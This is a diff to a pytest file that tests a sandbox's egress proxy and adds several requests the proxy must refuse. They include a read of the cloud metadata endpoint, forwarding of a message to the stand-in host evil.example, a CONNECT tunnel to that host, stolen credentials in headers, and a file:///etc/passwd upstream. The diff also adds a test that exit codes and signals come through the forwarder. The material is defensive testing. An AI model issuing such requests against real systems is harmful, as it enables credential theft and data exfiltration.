@@ -224,11 +224,14 @@ def test_paths_off_the_allow_list_are_refused_and_the_client_s_own_credentials_n
              {"path": "/v1/messages/../../admin", "body": {}},
              {"path": "/v1/messages/batches", "body": {}},
              {"path": "/v1/files", "body": {}},
+             {"method": "GET", "path": "http://169.254.169.254/latest/meta-data/"},  # as to a forward proxy
+             {"path": "http://evil.example/v1/messages", "body": _message()["body"]},
+             {"method": "CONNECT", "path": "evil.example:443"},
              {**_message(), "headers": {"authorization": f"Bearer {stolen}", "x-api-key": stolen,
                                         "cookie": "session=abc"}}]
     with _anthropic(anthropic_fake) as proxy:
         receipt, results = _client(tree, proxy, specs, bubblewrap)
-    assert [result["status"] for result in results] == [403, 403, 403, 403, 403, 200]
+    assert [result["status"] for result in results] == [403] * 8 + [200]
     assert "does not forward GET /v1/models" in results[0]["json"]["error"]["message"]
     assert results[0]["json"]["error"]["type"] == "permission_error"
     # The provider saw one request only, with the runtime's key and nothing the client sent.
@@ -236,9 +239,9 @@ def test_paths_off_the_allow_list_are_refused_and_the_client_s_own_credentials_n
     assert anthropic_fake.keys_seen() == {KEY}
     assert "cookie" not in anthropic_fake.request_headers[0]
     records = receipt.detail["egress"]["records"]
-    assert [bool(r.get("refused")) for r in records] == [True] * 5 + [False]
+    assert [bool(r.get("refused")) for r in records] == [True] * 8 + [False]
     assert records[0]["refused"].startswith("the egress proxy does not forward GET /v1/models")
-    assert records[-1]["client_credentials_dropped"] and receipt.detail["egress"]["usage"]["refused"] == 5
+    assert records[-1]["client_credentials_dropped"] and receipt.detail["egress"]["usage"]["refused"] == 8
     assert stolen not in json.dumps(receipt.detail)
 
 
@@ -358,3 +361,17 @@ def test_a_named_key_that_is_missing_refuses_to_start(monkeypatch, data_dir, db)
         EgressProxy("anthropic", "http://127.0.0.1:9", key_variable=KEY_VARIABLE).start()
     with pytest.raises(EgressError):
         EgressProxy("anthropic", "file:///etc/passwd", key_variable=None)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_command_s_exit_code_and_fatal_signal_come_through_the_forwarder(
+        tree, key, anthropic_fake, bubblewrap):
+    with _anthropic(anthropic_fake) as proxy:
+        exited = sandbox.run("exit 7", cwd=tree, timeout=30, isolation=bubblewrap, egress=proxy)
+        killed = sandbox.run("kill -TERM $$", cwd=tree, timeout=30, isolation=bubblewrap, egress=proxy)
+        # With rlimits only there is no namespace: the forwarder takes a free port of the host.
+        _, results = _client(tree, proxy, [_message()], "off")
+    assert exited.exit_code == 7 and exited.argv == ["/bin/sh", "-c", "exit 7"]
+    assert killed.signal == 15
+    assert exited.detail["egress"]["forwarder"]["port"] == 8787 and exited.detail["egress"]["records"] == []
+    assert results[0]["status"] == 200
